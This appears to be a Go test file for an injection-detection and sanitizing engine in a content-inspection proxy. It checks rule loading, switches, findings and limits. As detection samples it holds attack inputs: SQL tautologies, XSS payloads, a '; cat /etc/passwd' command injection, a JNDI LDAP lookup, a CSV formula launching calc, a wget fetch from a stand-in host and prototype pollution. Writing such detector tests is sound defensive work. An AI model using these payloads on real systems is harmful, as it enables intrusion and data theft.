package sanitize_test

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"icapd/internal/content"
	"icapd/sanitize"
	"icapd/scan"
	"icapd/scan/scantest"
	"icapd/signatures"
)

func builtin(tb testing.TB) *sanitize.Engine {
	tb.Helper()
	e, err := sanitize.New(sanitize.Options{Rules: []string{"builtin"}, Builtin: signatures.Injection()})
	if err != nil {
		tb.Fatal(err)
	}
	return e
}

func TestBuiltinExamples(t *testing.T) {
	e := builtin(t)
	if len(e.Rules()) < 80 {
		t.Fatalf("only %d built-in rules", len(e.Rules()))
	}
	if err := e.SelfTest(); err != nil {
		t.Error(err)
	}
}

// TestBuiltinRules holds what every built-in rule says about itself, and that every class has one.
func TestBuiltinRules(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range builtin(t).Rules() {
		seen[r.Class] = true
		if r.Description == "" || r.Reference == "" || r.Hint == "" {
			t.Errorf("%s lacks a description, a reference or a hint", r.ID)
		}
	}
	for _, class := range sanitize.Classes() {
		if !seen[class] && class != "custom" {
			t.Errorf("no rule of class %s", class)
		}
	}
}

// fieldItem is the NewItem of the suite: JSON documents with fields.
func fieldItem(tb testing.TB, s scantest.Sample, data []byte) *scan.Item {
	tb.Helper()
	it := scantest.PlainItem(tb, s, data)
	if it.Type == "application/json" && bytes.HasPrefix(data, []byte("{")) {
		it.Fields = jsonFields(data)
	} else {
		it.Fields = textField(data)
	}
	return it
}

func TestEngineSuite(t *testing.T) {
	sample := func(name, value, rule string) scantest.Sample {
		return scantest.Sample{Name: name, Type: "application/json", Data: []byte(`{"v":"` + value + `"}`), Rule: rule}
	}
	scantest.Engine(t, func(t *testing.T) scan.Engine {
		t.Helper()
		return builtin(t)
	}, scantest.Options{
		NoEICAR: true,
		NewItem: fieldItem,
		Malicious: []scantest.Sample{
			sample("sql", "x' OR 1=1 -- ", "sqli-tautology"),
			sample("markup", "<img src=x onerror=alert(1)>", "xss-handler"),
			sample("command", "; cat /etc/passwd", "cmdi-command"),
		},
		Clean: []scantest.Sample{
			sample("prose", "A sturdy table. It's made of oak; order by phone.", ""),
			sample("url", "https://api.example.com/v1/items?select=name&sort=asc", ""),
		},
	})
}

func TestRewriterSuite(t *testing.T) {
	sample := func(name, value string) scantest.Sample {
		return scantest.Sample{Name: name, Type: "application/json", Data: []byte(`{"v":"` + value + `","w":7}`)}
	}
	scantest.Rewriter(t, func(t *testing.T) scan.Rewriter {
		t.Helper()
		return sanitize.NewRewriter(builtin(t), sanitize.ModeDefang)
	}, scantest.RewriteOptions{
		NewItem:       fieldItem,
		NeedsFindings: true,
		Engine: func(t *testing.T) scan.Engine {
			t.Helper()
			return builtin(t)
		},
		Dirty:   []scantest.Sample{sample("sql", "x' OR 1=1 -- "), sample("markup", "<script>alert(1)</script>")},
		Clean:   []scantest.Sample{sample("prose", "nothing to see")},
		Corrupt: []scantest.Sample{{Name: "cut off", Type: "application/json", Data: []byte(`{"v":"x`)}},
		Apply: func(tb testing.TB, it *scan.Item, edits []scan.Edit) []byte {
			tb.Helper()
			doc, err := it.Blob.Bytes()
			if err != nil {
				tb.Fatal(err)
			}
			return apply(tb, doc, edits)
		},
	})
}

// TestRuleErrors holds that every problem of every file is reported at once, with its line.
func TestRuleErrors(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		name = filepath.Join(dir, name)
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return name
	}
	good := "  - {id: good, class: custom, severity: low, confidence: low, description: d, reference: r, literals: [abc]}\n"
	files := []string{
		write("class.yaml", "rules:\n"+good+"  - {id: a, class: sqlx, severity: low, confidence: low, literals: [abc]}\n"),
		write("key.yaml", "rules:\n  - id: b\n    sevrity: low\n"),
		write("top.yaml", "rulez: []\n"),
		write("pattern.yaml", "rules:\n  - {id: c, class: custom, severity: loud, confidence: low, literals: [abc], pattern: '('}\n"),
		write("none.yaml", "rules:\n  - {id: d, class: custom, severity: low, confidence: low}\n"),
		write("twice.yaml", "rules:\n"+good),
		write("syntax.yaml", "rules:\n  - {id: [\n"),
		filepath.Join(dir, "missing.yaml"),
	}
	_, err := sanitize.New(sanitize.Options{Rules: files})
	if err == nil {
		t.Fatal("no error")
	}
	for _, want := range []string{
		`class.yaml:3: rule a: unknown class "sqlx"`, "key.yaml:3: unknown field", `top.yaml:1: unknown key "rulez"`,
		"pattern.yaml:2: rule c: unknown severity", "pattern.yaml:2: rule c: pattern: ", "none.yaml:2: rule d: a rule needs a sign",
		"twice.yaml:2: rule good stands already at", "syntax.yaml:2: ", "missing.yaml: no such file",
	} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%v", want, err)
		}
	}
	var re *sanitize.RuleError
	if !errors.As(err, &re) || re.Line == 0 {
		t.Errorf("no *RuleError with a line in %v", err)
	}
}

func TestNewRefuses(t *testing.T) {
	for name, o := range map[string]sanitize.Options{
		"nothing":          {},
		"no built-in":      {Rules: []string{"builtin"}},
		"unknown disabled": {Rules: []string{"builtin"}, Builtin: signatures.Injection(), Disabled: []string{"sqlx"}},
		"unknown switch":   {Rules: []string{"builtin"}, Builtin: signatures.Injection(), Off: []sanitize.Switch{{Rules: []string{"sqlx"}}}},
		"empty switch":     {Rules: []string{"builtin"}, Builtin: signatures.Injection(), Off: []sanitize.Switch{{}}},
	} {
		if _, err := sanitize.New(o); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// TestOwnRules holds that users' rules work beside the built-in ones, on the fields that they name.
func TestOwnRules(t *testing.T) {
	name := filepath.Join(t.TempDir(), "own.yaml")
	text := `rules:
  - id: acme-ticket
    class: custom
    severity: medium
    confidence: high
    description: an internal ticket number
    reference: https://acme.example/tickets
    literals: [acme-]
    pattern: '(?i)\bacme-\d{4}\b'
    kinds: [string]
    match: ["see ACME-1234"]
    nomatch: ["ACME-12"]
`
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	e, err := sanitize.New(sanitize.Options{Rules: []string{"builtin", name}, Builtin: signatures.Injection()})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.SelfTest(); err != nil {
		t.Error(err)
	}
	if e.Version() == builtin(t).Version() {
		t.Error("the version does not tell the rules apart")
	}
	if hits := e.Inspect(nil, []byte("see acme-1234"), sanitize.FieldContext{Kind: scan.KindKey}); len(hits) != 0 {
		t.Errorf("hits in a name: %v", hits)
	}
}

// TestSwitches holds that rules are off where they are switched off, and nowhere else.
func TestSwitches(t *testing.T) {
	msg := &scan.Message{Host: "api.example.com", Path: "/v1/reports/7"}
	value := []byte("x' OR 1=1 -- ")
	cases := []struct {
		name string
		o    sanitize.Options
		off  bool
	}{
		{"class", sanitize.Options{Disabled: []string{"sqli", "nosqli", "xpath"}}, true},
		{"other class", sanitize.Options{Disabled: []string{"xss"}}, false},
		{"host", sanitize.Options{Off: []sanitize.Switch{{Messages: host("api.example.com")}}}, true},
		{"other host", sanitize.Options{Off: []sanitize.Switch{{Messages: host("api.example.org")}}}, false},
		{"field", sanitize.Options{Off: []sanitize.Switch{{Fields: []string{"/items/*/query"}}}}, true},
		{"other field", sanitize.Options{Off: []sanitize.Switch{{Fields: []string{"/items/*/name"}}}}, false},
		{"all parts", sanitize.Options{Off: []sanitize.Switch{{Rules: []string{"sqli", "xpath", "nosqli"}, Messages: host("api.example.com"), Fields: []string{"/items/**"}}}}, true},
		{"one part wrong", sanitize.Options{Off: []sanitize.Switch{{Rules: []string{"xss"}, Messages: host("api.example.com")}}}, false},
	}
	for _, c := range cases {
		c.o.Rules, c.o.Builtin = []string{"builtin"}, signatures.Injection()
		e, err := sanitize.New(c.o)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		hits := e.Inspect(nil, value, sanitize.FieldContext{Message: msg, Path: "/items/3/query"})
		if off := len(hits) == 0; off != c.off {
			t.Errorf("%s: hits %v, want off %v", c.name, hits, c.off)
		}
	}
}

// TestFinding holds what a finding says.
func TestFinding(t *testing.T) {
	doc := []byte(`{"ok":"yes","v":"%3Cscript%3Ealert(1)%3C/script%3E"}`)
	found, err := builtin(t).Scan(t.Context(), document(doc, "application/json"))
	if err != nil || len(found) != 1 {
		t.Fatalf("findings %v, error %v", found, err)
	}
	f := found[0]
	if f.Rule != "xss-script" || f.Class != "xss" || f.Severity != scan.High || f.Category != scan.Injection || f.Hint != "rewrite" || f.Reference != "CWE-79" {
		t.Errorf("finding %+v", f)
	}
	if !slices.Equal(f.Via, []string{"url"}) || f.Path != "body/v" || f.Field != "/v" || !strings.Contains(f.Detail, "<script>") {
		t.Errorf("via %q, path %q, field %q, detail %q", f.Via, f.Path, f.Field, f.Detail)
	}
	if got := string(doc[f.Span.Start:f.Span.End]); !strings.HasPrefix(got, `"%3Cscript`) || !strings.HasSuffix(got, `"`) {
		t.Errorf("span is %q", got)
	}
}

// TestLimits holds that what a limit kept the engine from looking at is a gap. TestItemWork has the limit of work.
func TestLimits(t *testing.T) {
	many := `["` + strings.Repeat(`<script>alert(1)</script>","`, 2000) + `${jndi:ldap://a.example/x}"]`
	found, err := builtin(t).Scan(t.Context(), document([]byte(many), "application/json"))
	var gap *scan.Gap
	if !errors.As(err, &gap) || gap.Reason != scan.ReasonLimit || gap.Limit != scan.LimitFindings || len(found) < 1000 {
		t.Errorf("%d findings, error %v", len(found), err)
	}
	// What comes after the limit is looked at, and the rules that have no finding yet are reported.
	if last := found[len(found)-1]; len(found) > 1005 || last.Class != "jndi" {
		t.Errorf("%d findings, the last is %+v", len(found), last)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := builtin(t).Scan(ctx, document([]byte(many), "application/json")); !errors.Is(err, context.Canceled) {
		t.Errorf("error %v", err)
	}
}

// TestPrototypePair holds the one rule that needs two names.
func TestPrototypePair(t *testing.T) {
	e := builtin(t)
	for _, tt := range []struct {
		doc  string
		want int
	}{
		{`{"constructor":{"prototype":{"a":1}}}`, 1},
		{`{"constructor":{"name":"McLaren"}}`, 0},
		{`{"prototype":{"a":1},"constructor":{"name":1}}`, 0},
		{`{"constructor":{"prototype":{"a":1}}}`, 1}, // all names are known by now, and a number was looked at last
	} {
		found, err := e.Scan(t.Context(), document([]byte(tt.doc), "application/json"))
		if err != nil || len(found) != tt.want {
			t.Errorf("%s: findings %v, error %v", tt.doc, found, err)
		}
	}
}

// host tells messages of a host.
func host(name string) func(*scan.Message) bool {
	return func(m *scan.Message) bool { return m.Host == name }
}

// TestParts holds that a table and a form that nobody says to be such are looked at cell by cell and as a whole, and that what
// stands in a cell is found once.
func TestParts(t *testing.T) {
	e := builtin(t)
	w := content.New(content.Options{})
	for _, c := range []struct{ doc, class, path string }{
		{"id;note\n1;=cmd|' /C calc'!A0\n", "csvformula", "body/1/1"},
		{"id;note;c\n1;<img src=x onerror=alert(1)>;x\n", "xss", "body/1/1"},
		{"id,note,c\n1,<img src=x onerror=alert(1)>,x\n", "xss", "body/1/1"},
		{"id;a\n1;wget http://a.example/x\n", "cmdi", "body"},
		{"a=1&q=%27+or+1%3D1+--+", "sqli", "body/q"},
	} {
		tree := w.Open(&scan.Message{}, scan.Bytes(c.doc), content.Hints{})
		n := 0
		for it := range tree.Items(t.Context()) {
			if it.Fields == nil {
				continue
			}
			found, err := e.Scan(t.Context(), it)
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range found {
				if f.Class == c.class {
					n++
					if f.Path != c.path {
						t.Errorf("%q: %s at %s, want %s", c.doc, f.Rule, f.Path, c.path)
					}
				}
			}
		}
		tree.Close()
		if n != 1 {
			t.Errorf("%q: %s found %d times", c.doc, c.class, n)
		}
	}
}
